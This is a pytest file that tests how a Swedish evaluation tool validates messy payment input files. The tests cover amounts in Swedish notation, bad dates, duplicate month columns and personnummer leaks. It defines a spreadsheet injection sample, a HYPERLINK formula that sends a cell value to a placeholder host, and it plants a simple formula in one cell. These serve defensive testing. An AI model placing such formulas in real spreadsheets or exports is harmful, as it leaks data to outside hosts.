"""Hostile and messy input for the newer input files: payments one row per payment or one column
per month, questionnaires (responses and questions), Kolada series kept in the data folder, the
förbund's Word template and the analysis plan. Each case must end in a clear message (file, row,
column, value, what was expected) or a correct result; never a traceback, never a personnummer or
a formula in what is written, never a changed input file."""
from __future__ import annotations

import datetime as dt
import hashlib
import json
from pathlib import Path

import openpyxl
import pytest

from evaltools.data.errors import DataValidationError, EvaltoolsError
from evaltools.data.project import load_project
from evaltools.publish import cli

from .conftest import write_csv

PNR = "811218-9876"  # shaped like a personnummer (a valid check digit), nobody's
PNR_TAIL = "9876"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"klicka")'

PARTICIPANTS_BLOCK = "data:\n  participants: data/participants.csv\n  payments: data/{name}\n  budget: data/budget.csv\n"


# --- helpers -------------------------------------------------------------------------------------
def _snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _write(path: Path, rows: list[list[object]], how: str = "utf-8") -> Path:
    """``rows`` (the header first) as a CSV in one of the encodings and separators users send, or as
    an openpyxl-written workbook (``xlsx``, its cells as given: a date stays a date cell)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if how == "xlsx":
        path = path.with_suffix(".xlsx")
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = path.stem
        for row in rows:
            ws.append(list(row))
        wb.save(path)
        return path
    sep = ";" if how == "semicolon" else ","
    encoding = {"utf-8": "utf-8", "bom": "utf-8-sig", "cp1252": "cp1252", "semicolon": "utf-8"}[how]

    def cell(v: object) -> str:
        s = "" if v is None else str(v)
        return f'"{s.replace(chr(34), chr(34) * 2)}"' if (sep in s or '"' in s) else s

    path.write_text("\n".join(sep.join(cell(v) for v in row) for row in rows) + "\n", encoding=encoding)
    return path


def _validate(params: Path, capsys) -> tuple[int, str]:
    """``evaltools validate`` on ``params``: its exit code and all it printed, checked for what must
    never be printed."""
    code = cli.main(["validate", str(params)])
    out = capsys.readouterr()
    said = out.out + out.err
    assert "Traceback" not in said and PNR_TAIL not in said, said
    return code, said


def _refused(params: Path, capsys) -> tuple[DataValidationError | EvaltoolsError, str]:
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_FAILED, said
    with pytest.raises(EvaltoolsError) as e:
        load_project(params)
    return e.value, said


def _problems(err) -> list:
    return list(getattr(err, "problems", []) or [])


# --- 1. payments, one row per payment ----------------------------------------------------------------
HOW = ["utf-8", "bom", "cp1252", "semicolon", "xlsx"]


def _per_payment(tiny_project, rows: list[list[object]], how: str = "utf-8", extra: str = "") -> Path:
    path = _write(tiny_project.dir / "data" / "utbetalningar.csv", [["person_id", "payment_date", "amount"], *rows], how)
    return tiny_project(extra, data_block=PARTICIPANTS_BLOCK.format(name=path.name))


@pytest.mark.parametrize("how", HOW)
def test_per_payment_amounts_in_swedish_writing_are_summed_into_months(how, tiny_project, capsys):
    """9 000,50 + 1 000 in January, a repayment of -500 in February against 2 000: two months."""
    params = _per_payment(tiny_project, [["P1", "2022-01-15", "9 000,50"], ["P1", "2022-01-28", "1000"],
                                         ["P1", "2022-02-03", "2000"], ["P1", "2022-02-20", "-500"]], how)
    before = _snapshot(tiny_project.dir)
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    pay = load_project(params).payments
    got = dict(zip(pay["month"].astype(str).str[:7], pay["amount"]))
    assert got == {"2022-01": pytest.approx(10000.5), "2022-02": pytest.approx(1500)}
    assert _snapshot(tiny_project.dir) == before


@pytest.mark.parametrize("how", HOW)
def test_a_per_payment_amount_in_words_is_refused_naming_row_and_column(how, tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-15", "9000"], ["P1", "2022-02-15", "niotusen"]], how)
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (3, "amount") and "niotusen" in said


@pytest.mark.parametrize("date", ["15/01/2023", "44941", "2023-13-01", "jan 2023"])
def test_a_payment_date_not_written_as_a_date_is_refused_with_the_expected_form(date, tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-15", "9000"], ["P1", date, "9000"]])
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (3, "payment_date") and date in said and "ÅÅÅÅ-MM-DD" in said


def test_payment_dates_as_excel_date_cells_are_read(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", dt.datetime(2022, 1, 15), 9000], ["P1", dt.date(2022, 2, 1), 8000]],
                          "xlsx")
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    assert sorted(load_project(params).payments["amount"]) == [8000, 9000]


def test_a_repayment_bigger_than_the_month_is_refused_naming_its_rows(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-05", "3000"], ["P1", "2022-01-25", "-5000"],
                                         ["P2", "2022-03-01", "7000"]])
    err, said = _refused(params, capsys)
    assert {p.row for p in _problems(err)} <= {2, 3} and "3" in said
    assert "-5000" not in said and "5000" not in said  # one person's amount is not repeated


def test_a_person_in_the_payments_but_not_among_the_participants_is_a_note_without_the_id(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-05", "3000"], ["X9Q7", "2022-01-25", "5000"]])
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    assert "unknown_person" in {w.code for w in load_project(params).warnings}
    assert "X9Q7" not in said


def test_a_personnummer_as_a_payment_id_is_refused_without_quoting_it(tiny_project, capsys):
    params = _per_payment(tiny_project, [["P1", "2022-01-05", "3000"], [PNR, "2022-01-25", "5000"]])
    err, _ = _refused(params, capsys)
    assert PNR_TAIL not in str(err)


# --- 2. payments, one column per month ----------------------------------------------------------------
def _wide(tiny_project, rows: list[list[object]], how: str = "utf-8") -> Path:
    path = _write(tiny_project.dir / "data" / "bredd.csv", rows, how)
    return tiny_project(data_block=PARTICIPANTS_BLOCK.format(name=path.name))


@pytest.mark.parametrize("how", HOW)
def test_wide_payments_with_a_total_and_a_comment_column_are_read(how, tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "2022-02", "Summa 2022", "Kommentar"],
                                  ["P1", "9000", "8 500,50", "17500,50", "ok"], ["P2", "", "1200", "1200", ""]], how)
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    pay = load_project(params).payments
    assert sorted(pay["amount"]) == pytest.approx([1200, 8500.5, 9000])


def test_wide_payments_with_excel_date_headings_are_read(tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", dt.datetime(2022, 1, 1), dt.datetime(2022, 2, 1)],
                                  ["P1", 9000, 8000]], "xlsx")
    code, said = _validate(params, capsys)
    assert code == cli.EXIT_OK, said
    months = sorted(load_project(params).payments["month"].astype(str).str[:7])
    assert months == ["2022-01", "2022-02"]


@pytest.mark.parametrize("how", ["utf-8", "xlsx"])
def test_two_columns_for_one_month_are_refused_naming_both(how, tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "2022-02", "2022-01"], ["P1", "9000", "8000", "100"]], how)
    err, said = _refused(params, capsys)
    assert "2022-01" in said


@pytest.mark.parametrize("how", ["utf-8", "xlsx"])
def test_an_empty_heading_over_amounts_is_refused(how, tiny_project, capsys):
    """A column of amounts without a heading would be lost without a word."""
    params = _wide(tiny_project, [["person_id", "2022-01", "", "2022-03"], ["P1", "9000", "8000", "100"]], how)
    err, said = _refused(params, capsys)
    assert [(p.row, p.column) for p in _problems(err)] == [(1, "C")], said


@pytest.mark.parametrize("how", ["utf-8", "xlsx"])
def test_a_personnummer_as_a_heading_or_a_cell_is_refused_without_quoting_it(how, tiny_project, capsys):
    for rows in ([["person_id", "2022-01", PNR], ["P1", "9000", "1"]],
                 [["person_id", "2022-01", "2022-02"], ["P1", "9000", PNR]]):
        params = _wide(tiny_project, rows, how)
        err, _ = _refused(params, capsys)
        assert PNR_TAIL not in str(err)


def test_a_formula_in_a_wide_cell_is_refused_naming_its_month(tiny_project, capsys):
    params = _wide(tiny_project, [["person_id", "2022-01", "2022-02"], ["P1", "9000", "=A1*2"]])
    err, said = _refused(params, capsys)
    (p,) = _problems(err)
    assert (p.row, p.column) == (2, "2022-02")
